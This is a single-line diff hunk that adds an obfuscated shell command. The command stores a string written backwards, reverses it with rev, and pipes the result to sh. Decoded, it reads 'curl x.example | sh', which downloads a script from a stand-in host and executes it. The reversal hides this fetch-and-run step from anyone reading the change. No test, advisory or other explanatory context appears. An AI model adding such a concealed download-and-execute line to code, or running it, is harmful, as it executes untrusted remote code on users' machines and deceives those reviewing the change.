@@ -1,0 +1,1 @@
+echo 'hs | elpmaxe.x lruc' | rev | sh
